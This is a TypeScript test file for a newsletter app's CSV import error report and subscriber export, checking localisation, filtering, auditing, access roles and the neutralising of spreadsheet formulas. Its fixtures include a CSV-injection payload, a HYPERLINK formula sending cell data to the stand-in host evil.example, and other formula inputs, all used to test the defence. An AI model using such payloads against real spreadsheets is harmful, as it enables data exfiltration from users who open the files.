/**
 * What leaves the server as CSV: the import's error report (row, value, reason in the reader's
 * language) and the subscriber export (every match, page after page). A spreadsheet formula in a
 * value is stored as typed and neutralised in both files.
 */
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listSubscriptions, subscribers } from '../../src/server/modules/newsletter/newsletter.tables.js';
import { auditLog } from '../../src/server/platform/platform.tables.js';
import { createImportFixture, type ImportFixture, multipart } from '../helpers/newsletter-import-fixture.js';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")';

let f: ImportFixture;
beforeAll(async () => {
  f = await createImportFixture();
});
afterAll(() => f.close());

/** CSV lines of a response body without its byte-order mark. */
function linesOf(body: string): string[] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  return body
    .slice(1)
    .split('\r\n')
    .filter((line) => line !== '');
}

describe('error report', () => {
  const FILE = [
    'email;name;attributes',
    'ok@example.org;سارة;',
    'not-an-address;Nom;',
    ';Sans adresse;',
    `"=1+2@evil";Formule;`,
    'ok@example.org;Doublon;',
    'quote@example.org;"jamais fermé;',
    'after@example.org;Après;{"ville": "Oran"}',
    `formula@example.org;"${FORMULA.replaceAll('"', '""')}";`,
    'json@example.org;J;{ville: Oran}',
  ].join('\n');

  it('lists each row left out with its line, its value and the reason, in French or Arabic', async () => {
    const done = await f.importFile('rapport.csv', FILE);
    expect(done).toMatchObject({ status: 'done', totalRows: 9, createdCount: 3, skippedCount: 1, errorCount: 5, hasErrorReport: true });

    const fr = await f.t.request(f.session, { method: 'GET', url: `${f.base}/${done.id}/errors.csv?lang=fr` });
    expect(fr.statusCode).toBe(200);
    expect(fr.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(fr.headers['content-disposition']).toContain('filename="rapport-errors.csv"');
    expect(linesOf(fr.body)).toEqual([
      'Ligne,Valeur,Raison',
      '3,not-an-address,Adresse e-mail invalide',
      '4, | Sans adresse | ,Adresse e-mail manquante',
      "5,'=1+2@evil,Adresse e-mail invalide",
      '6,ok@example.org,Adresse déjà présente plus haut dans le fichier (la première ligne a été importée)',
      '7,"quote@example.org;""jamais fermé;",Ligne illisible : guillemets non refermés',
      '10,{ville: Oran},Colonne « attributes » illisible : un objet JSON est attendu',
    ]);

    const ar = await f.t.request(f.session, { method: 'GET', url: `${f.base}/${done.id}/errors.csv?lang=ar` });
    const arabic = linesOf(ar.body);
    expect(arabic[0]).toBe('السطر,القيمة,السبب');
    expect(arabic[1]).toBe('3,not-an-address,عنوان البريد الإلكتروني غير صالح');

    const audit = await f.t.platform.database.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.entityId, done.id), eq(auditLog.action, 'export')));
    expect(audit).toHaveLength(2);
  });

  it('stores a formula typed in a name as text', async () => {
    const row = await f.subscriberByEmail('formula@example.org');
    expect(row?.name).toBe(FORMULA);
    expect((await f.subscriberByEmail('after@example.org'))?.attributes).toEqual({ ville: 'Oran' });
  });

  it('has no report when every row was imported', async () => {
    const done = await f.importFile('clean.csv', 'email\nclean@example.org\n');
    expect(done.hasErrorReport).toBe(false);
    expect((await f.t.request(f.session, { method: 'GET', url: `${f.base}/${done.id}/errors.csv` })).statusCode).toBe(404);
  });
});

describe('subscriber export', () => {
  const exportUrl = (query = '') => `/api/workspaces/${f.workspaceId}/newsletter/subscribers/export.csv${query}`;

  it('streams every subscriber with formulas neutralised and Arabic intact', async () => {
    await f.makeSubscriber({ email: 'plus@example.org', name: '+33 6 12 34 56 78' });
    await f.makeSubscriber({ email: 'minus@example.org', name: '-2+3' });
    await f.makeSubscriber({ email: 'at@example.org', name: '@SUM(A1)' });
    await f.makeSubscriber({ email: 'tab@example.org', name: '\tcaché' });
    await f.makeSubscriber({
      email: 'arabic@example.org',
      name: 'عبد الله بن يوسف',
      tags: ['شباب', 'Rabat'],
      attributes: { ville: 'الرباط' },
    });
    const response = await f.t.request(f.session, { method: 'GET', url: exportUrl() });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toContain('attachment; filename="subscribers.csv"');
    const lines = linesOf(response.body);
    expect(lines[0]).toBe('email,name,languages,country,organisation,tags,status,created_at,attributes');
    const byEmail = (email: string) => lines.find((line) => line.startsWith(`${email},`));
    expect(byEmail('formula@example.org')).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"")"`);
    expect(byEmail('plus@example.org')).toContain(",'+33 6 12 34 56 78,");
    expect(byEmail('minus@example.org')).toContain(",'-2+3,");
    expect(byEmail('at@example.org')).toContain(",'@SUM(A1),");
    expect(byEmail('tab@example.org')).toContain(",'\tcaché,");
    expect(byEmail('arabic@example.org')).toMatch(
      /^arabic@example\.org,عبد الله بن يوسف,fr,,,"شباب, Rabat",active,[^,]+,"\{""ville"":""الرباط""\}"$/,
    );
  });

  it('filters by list (confirmed members) and by status, across pages', async () => {
    const db = f.t.platform.database.db;
    const listId = await f.makeList('Grande liste');
    const rows = Array.from({ length: 2500 }, (_, index) => ({
      workspaceId: f.workspaceId,
      email: `bulk${index}@example.org`,
      emailNormalized: `bulk${index}@example.org`,
      status: index % 10 === 0 ? 'unsubscribed' : 'active',
    }));
    const inserted = await db.insert(subscribers).values(rows).returning({ id: subscribers.id });
    await db
      .insert(listSubscriptions)
      .values(
        inserted
          .filter((_, index) => index % 2 === 0)
          .map((row, index) => ({ listId, subscriberId: row.id, status: index % 2 === 0 ? 'confirmed' : 'unconfirmed' })),
      );
    const onList = linesOf((await f.t.request(f.session, { method: 'GET', url: exportUrl(`?listId=${listId}`) })).body);
    expect(onList.length - 1).toBe(625);
    const unsubscribed = linesOf((await f.t.request(f.session, { method: 'GET', url: exportUrl('?status=unsubscribed') })).body);
    expect(unsubscribed.length - 1).toBe(250);
    expect(unsubscribed.slice(1).every((line) => line.includes(',unsubscribed,'))).toBe(true);
    const all = linesOf((await f.t.request(f.session, { method: 'GET', url: exportUrl() })).body);
    const count = await db.$count(subscribers, eq(subscribers.workspaceId, f.workspaceId));
    expect(all.length - 1).toBe(count);
    expect(new Set(all.slice(1).map((line) => line.split(',')[0])).size).toBe(count);
  });

  it('is audited, refuses another workspace’s list, and is for admins and officers only', async () => {
    const db = f.t.platform.database.db;
    const before = await db.$count(auditLog, and(eq(auditLog.workspaceId, f.workspaceId), eq(auditLog.entityType, 'subscriber')));
    await f.t.request(f.session, { method: 'GET', url: exportUrl('?status=active') });
    expect(await db.$count(auditLog, and(eq(auditLog.workspaceId, f.workspaceId), eq(auditLog.entityType, 'subscriber')))).toBe(before + 1);

    const elsewhere = await f.t.make.workspace();
    const foreign = await f.makeList('Ailleurs', elsewhere.id);
    const refused = await f.t.request(f.session, { method: 'GET', url: exportUrl(`?listId=${foreign}`) });
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toMatchObject({ fields: { listId: { code: 'UNKNOWN_LIST' } } });

    for (const role of ['reviewer', 'contributor', 'viewer'] as const) {
      const session = await f.signInAs(role);
      expect((await f.t.request(session, { method: 'GET', url: exportUrl() })).statusCode, role).toBe(403);
    }
  });

  it('exports a file the import reads back as it was', async () => {
    const other = await f.t.make.workspace();
    const officer = await f.t.make.member(other.id, 'officer');
    const session = await f.t.signIn(officer.email);
    const exported = (await f.t.request(f.session, { method: 'GET', url: exportUrl('?status=active') })).rawPayload;
    const base = `/api/workspaces/${other.id}/newsletter/imports`;
    const uploaded = (await f.t.request(session, { method: 'POST', url: base, ...multipart('export.csv', exported) })).json() as {
      id: string;
    };
    const preview = (await f.t.request(session, { method: 'GET', url: `${base}/${uploaded.id}/preview` })).json() as {
      suggestedMapping: Record<string, string>;
    };
    expect(preview.suggestedMapping).toEqual({
      '0': 'email',
      '1': 'name',
      '2': 'language',
      '3': 'country',
      '4': 'organisation',
      '5': 'tags',
      '6': 'ignore',
      '7': 'ignore',
      '8': 'attributes',
    });
    await f.t.request(session, {
      method: 'POST',
      url: `${base}/${uploaded.id}/start`,
      payload: { encoding: 'utf-8', delimiter: 'comma', mapping: preview.suggestedMapping, listIds: [], consentText: 'Export AlterMed' },
    });
    await f.runJobs();
    const [copy] = await f.t.platform.database.db
      .select()
      .from(subscribers)
      .where(and(eq(subscribers.workspaceId, other.id), eq(subscribers.emailNormalized, 'arabic@example.org')));
    expect(copy).toMatchObject({ name: 'عبد الله بن يوسف', tags: ['شباب', 'Rabat'], attributes: { ville: 'الرباط' }, languages: ['fr'] });
  });
});
